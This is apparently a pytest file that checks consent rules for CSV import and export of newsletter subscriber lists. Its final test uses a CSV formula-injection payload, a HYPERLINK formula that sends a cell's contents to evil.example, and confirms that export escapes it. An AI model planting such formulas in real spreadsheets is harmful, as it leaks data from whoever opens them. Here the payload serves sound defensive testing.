"""Import and export of lists: consent never grows, and suppressions move with a list."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from digest.bootstrap import App, open_app
from digest.services.subscriber_lists import COLUMNS
from digest.settings import load
from tests.settings.samples import EXAMPLE

NOW = datetime(2026, 12, 1, 6, tzinfo=UTC)
OpenApp = Callable[[str], App]


@pytest.fixture
def opened(tmp_path: Path) -> Iterator[OpenApp]:
    """A function that opens an installation of its own by name."""
    from contextlib import ExitStack

    with ExitStack() as stack:

        def make(name: str) -> App:
            folder = tmp_path / name
            folder.mkdir()
            (folder / "settings.toml").write_text(EXAMPLE.read_text(encoding="utf-8"), encoding="utf-8")
            return stack.enter_context(open_app(load(folder / "settings.toml", {}), clock=lambda: NOW))

        yield make


@pytest.fixture
def app(opened: OpenApp) -> App:
    return opened("first")


def reason(app: App, address: str) -> str:
    """Return the reason of an address's suppression, "" when it has none."""
    suppression = app.subscriptions.known(address).suppression
    return suppression.reason if suppression else ""


def states(app: App) -> dict[str, str]:
    """Return for each person the state of their subscription, or the reason of their suppression."""
    result = {}
    for subscriber, subscriptions in app.subscriptions.listing():
        state = reason(app, subscriber.address) or ",".join(each.state for each in subscriptions)
        result[subscriber.address.partition("@")[0]] = state
    return result


def exported(app: App) -> str:
    out = io.StringIO()
    csv.writer(out).writerows([COLUMNS, *app.subscriber_lists.export()])
    return out.getvalue()


def test_import_opt_out_ends_subscription_of_known_person(app: App) -> None:
    app.subscriber_lists.import_csv("email,state\nben@example.org,confirmed\n", "morning")
    summary = app.subscriber_lists.import_csv("email,state\nben@example.org,unsubscribed\n", "morning")
    assert (summary.known, summary.ended) == (1, 1)
    assert states(app) == {"ben": "unsubscribed"}


@pytest.mark.parametrize("order", [("subscribed", "unsubscribed"), ("unsubscribed", "subscribed")])
def test_import_most_restrictive_row_of_a_person_counts(app: App, order: tuple[str, str]) -> None:
    text = "email,state\n" + "".join(f"{name}@example.org,{word}\n" for word in order for name in ("ben", "BEN"))
    app.subscriber_lists.import_csv(text, "morning")
    assert states(app) == {"ben": "unsubscribed"}


def test_import_unconfirmed_row_outweighs_confirmed_row(app: App) -> None:
    app.subscriber_lists.import_csv("email,state\na@example.org,pending\na@example.org,active\n", "morning")
    assert states(app) == {"a": "unconfirmed"}


def test_import_never_resubscribes_who_left(app: App) -> None:
    app.subscriber_lists.import_csv("email,state\nben@example.org,unsubscribed\n", "morning")
    summary = app.subscriber_lists.import_csv("email,state\nben@example.org,subscribed\n", "morning")
    assert summary.left == 1
    assert states(app) == {"ben": "unsubscribed"}


def test_import_suppresses_complaints_and_bounces_of_known_people(app: App) -> None:
    app.subscriber_lists.import_csv("email\nsue@example.org\ntom@example.org\nada@example.org\n", "morning")
    text = "Email,Status\nsue@example.org,Bounced\ntom@example.org,Marked as spam\nvic@example.org,blocklisted\n"
    summary = app.subscriber_lists.import_csv(text, "morning")
    assert (summary.suppressed, summary.added) == (3, 0)
    assert states(app) == {"sue": "bounce", "tom": "complaint", "ada": "confirmed"}
    assert reason(app, "vic@example.org") == "manual"


def test_import_completes_names_and_overwrites_none(app: App) -> None:
    app.subscriber_lists.import_csv("email,name\nada@example.org,\nben@example.org,Ben\n", "morning")
    app.subscriber_lists.import_csv("email,first name\nada@example.org,Ada\nben@example.org,Benjamin\n", "morning")
    assert [subscriber.name for subscriber, _ in app.subscriptions.listing()] == ["Ada", "Ben"]


def test_export_of_suppressed_people_never_becomes_consent_elsewhere(app: App, opened: OpenApp) -> None:
    app.subscriber_lists.import_csv("email\nada@example.org\nsue@example.org\ntom@example.org\n", "morning")
    text = "email,status\nsue@example.org,complained\ntom@example.org,bounced\nzoe@example.org,blocked\n"
    app.subscriber_lists.import_csv(text, "morning")
    elsewhere = opened("second")
    elsewhere.subscriber_lists.import_csv(exported(app))
    assert states(elsewhere) == {"ada": "confirmed"}
    suppressions = {name: reason(elsewhere, f"{name}@example.org") for name in ("ada", "sue", "tom", "zoe")}
    assert suppressions == {"ada": "", "sue": "complaint", "tom": "bounce", "zoe": "manual"}


def test_export_shows_formulas_as_text_and_import_restores_them(app: App, opened: OpenApp) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    app.subscriptions.add("evil@example.net", "morning", name=name)
    assert f"'{name}" in [row[1] for row in csv.reader(io.StringIO(exported(app)))]
    elsewhere = opened("second")
    elsewhere.subscriber_lists.import_csv(exported(app))
    assert [subscriber.name for subscriber, _ in elsewhere.subscriptions.listing()] == [name]
